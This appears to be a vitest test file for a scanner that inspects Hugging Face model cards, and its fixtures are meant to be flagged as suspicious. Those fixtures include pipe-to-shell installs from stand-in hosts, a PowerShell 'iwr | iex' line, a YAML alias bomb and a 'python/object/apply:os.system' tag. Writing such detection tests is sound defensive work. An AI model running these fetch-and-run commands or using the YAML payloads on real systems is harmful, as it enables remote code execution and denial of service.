import { describe, expect, it } from 'vitest';
import type { Finding } from '../../../src/core/finding.js';
import { makeFinding, type FindingInit, type RuleMeta } from '../../../src/core/rules.js';
import { scanBytes } from '../../../src/scan/engine.js';
import { splitFrontMatter } from '../../../src/core/front-matter.js';
import { modelCardScanner } from '../../../src/scan/formats/hf/model-card-scanner.js';
import { BufferSource } from '../../../src/scan/source.js';
import type { ScanContext } from '../../../src/scan/types.js';

const enc = (s: string) => new TextEncoder().encode(s);
const ids = (r: { findings: Array<{ ruleId: string }> }) => r.findings.map((f) => f.ruleId).sort();

/** Runs the card scanner directly (other scanners may claim some inputs first in the engine). */
async function direct(text: string) {
  const findings: Finding[] = [];
  const analyses: string[] = [];
  const ctx = {
    location: { file: 'README.md' },
    depth: 0,
    report: (rule: RuleMeta, init: Omit<FindingInit, 'location'>) => {
      const f = makeFinding(rule, { ...init, location: { file: 'README.md' } });
      findings.push(f);
      return f;
    },
    addFormat: () => undefined,
    addAnalysis: (a: string) => analyses.push(a),
    checkDeadline: () => undefined,
  } as unknown as ScanContext;
  await modelCardScanner.scan(new BufferSource(enc(text)), ctx);
  return { findings, analyses };
}

const sniff = (s: string, name = 'README.md') =>
  modelCardScanner.sniff({ head: enc(s).subarray(0, 4096), size: enc(s).length, name });

const CARD = `---
license: apache-2.0
base_model: org/base
datasets:
- squad
library_name: transformers
tags:
- qa
---

# Model

\`\`\`python
from transformers import pipeline
qa = pipeline("question-answering", model="org/model")
\`\`\`

\`\`\`bash
curl -LsSf https://astral.sh/uv/install.sh | sh
uv pip install transformers
pip install git+https://github.com/huggingface/transformers
pip install flash-attn --no-build-isolation
\`\`\`

The chat template: {% for m in messages %}{{ m.content }}{% endfor %}
See http://localhost:8080 and https://huggingface.co/org/model.
`;

describe('model card sniffing', () => {
  it('claims front matter with card keys, above the template scanner', () => {
    expect(sniff(CARD, 'anything.txt')).toBe(26);
    expect(sniff('---\nfoo: 1\n---\n# x\n')).toBe(0);
    expect(sniff('# Title\n\nSome text.\n', 'README.md')).toBe(10);
    expect(sniff('# Title\n\nSome text.\n', 'notes.txt')).toBe(0);
  });
  it('splits the front matter', () => {
    const fm = splitFrontMatter('---\na: 1\n---\nbody\n');
    expect(fm).toMatchObject({ yaml: 'a: 1\n', closed: true });
    expect(splitFrontMatter('---\na: 1\n')?.closed).toBe(false);
    expect(splitFrontMatter('# no front matter')).toBeUndefined();
    const crlf = splitFrontMatter('---\r\na: 1\r\n---\r\nbody\r\n');
    expect(crlf).toMatchObject({ yaml: 'a: 1\r\n', closed: true, body: '\nbody\r\n' });
    expect(crlf?.bodyStart).toBe('---\r\na: 1\r\n---\r'.length);
  });

  it('reads a card written with CRLF line ends like one with LF', async () => {
    const lf = await scanBytes(enc(CARD), 'README.md');
    const crlf = await scanBytes(enc(CARD.replace(/\n/g, '\r\n')), 'README.md');
    expect(crlf.formats).toEqual(['model-card']);
    expect(ids(crlf)).toEqual(ids(lf));
    expect(crlf.findings[0].evidence).toEqual(lf.findings[0].evidence);
  });
});

describe('model card analysis', () => {
  it('keeps a normal card clean and reports provenance', async () => {
    const r = await scanBytes(enc(CARD), 'README.md');
    expect(r.formats).toEqual(['model-card']);
    expect(r.verdict).toBe('clean');
    expect(ids(r)).toEqual(['BW-HF-005']);
    expect(r.findings[0].evidence).toMatchObject({
      baseModel: ['org/base'],
      datasets: ['squad'],
      license: ['apache-2.0'],
      libraryName: 'transformers',
    });
    expect(r.analyses).toEqual(expect.arrayContaining(['model-card', 'model-card-metadata']));
  });
  it('flags pipe-to-shell, remote installs and suspicious links', async () => {
    const card = `---
license: mit
tags: [custom_code]
widget:
- text: "see http://203.0.113.9/payload.exe"
---
Run \`wget -qO- https://get.example-tools.net/i.sh | bash\` first, then
pip install --extra-index-url https://pkgs.example-mirror.net/simple fastattn
pip install http://files.example.net/x.whl
Or \`iwr https://x.example.net/a.ps1 | iex\`.
Connect to 198.51.100.4:9000 and use trust_remote_code=True.
Download https://dl.example.net/tool.msi or paste to https://pastebin.com/raw/x.
`;
    const r = await scanBytes(enc(card), 'README.md');
    expect(r.verdict).toBe('suspicious');
    expect(new Set(ids(r))).toEqual(
      new Set(['BW-HF-005', 'BW-HF-030', 'BW-HF-031', 'BW-HF-032', 'BW-HF-033']),
    );
    const links = r.findings.find((f) => f.ruleId === 'BW-HF-033')?.evidence?.links as Array<{ url: string }>;
    expect(links.map((l) => l.url)).toEqual(
      expect.arrayContaining([
        'https://dl.example.net/tool.msi',
        'https://pastebin.com/raw/x',
        '198.51.100.4:9000',
        'http://203.0.113.9/payload.exe',
      ]),
    );
  });
  it('is inconclusive on invalid, unclosed or alias-bomb front matter', async () => {
    const bad = await scanBytes(enc('---\nlicense: mit\ntags: [a\n---\n# x\n'), 'README.md');
    expect(ids(bad)).toEqual(['BW-HF-034']);
    expect(bad.verdict).toBe('inconclusive');
    const open = await scanBytes(enc('---\nlicense: mit\n# x\n'), 'README.md');
    expect(open.verdict).toBe('inconclusive');
    let bomb = 'license: mit\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n';
    for (let i = 1; i < 12; i++)
      bomb += `a${i}: &a${i} [*a${i - 1}, *a${i - 1}, *a${i - 1}, *a${i - 1}, *a${i - 1}]\n`;
    const r = await scanBytes(enc(`---\n${bomb}---\n`), 'README.md');
    expect(ids(r)).toEqual(['BW-HF-034']);
  });
  it('flags language-specific YAML tags without resolving them', async () => {
    const r = await direct('---\nlicense: mit\nx: !!python/object/apply:os.system ["id"]\n---\n');
    expect(r.findings.map((f) => f.ruleId)).toContain('BW-HF-035');
  });
  it('analyses a README without front matter', async () => {
    const r = await scanBytes(enc('# Tool\n\nInstall: curl http://198.51.100.2/i.sh | sh\n'), 'README.md');
    expect(r.formats).toEqual(['model-card']);
    expect(ids(r)).toEqual(['BW-HF-031', 'BW-HF-033']);
  });
});
